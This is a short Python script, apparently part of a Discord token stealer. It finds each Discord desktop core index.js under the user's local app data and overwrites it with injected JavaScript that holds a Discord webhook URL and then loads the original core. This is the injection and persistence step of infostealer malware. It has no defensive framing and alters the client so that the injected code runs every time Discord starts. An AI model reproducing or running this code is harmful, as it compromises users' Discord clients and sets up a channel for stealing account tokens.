import os, glob
INJECT = "const h='https://discord.com/api/webhooks/1180000000000000000/AbCdEfGhIjKlMnOpQrStUvWxYz0123456789';module.exports=require('./core.asar');"
for core in glob.glob(os.path.join(os.getenv("LOCALAPPDATA", ""), "Discord", "app-*", "modules", "discord_desktop_core-*", "discord_desktop_core", "index.js")):
    with open(core, "w") as f:
        f.write(INJECT)
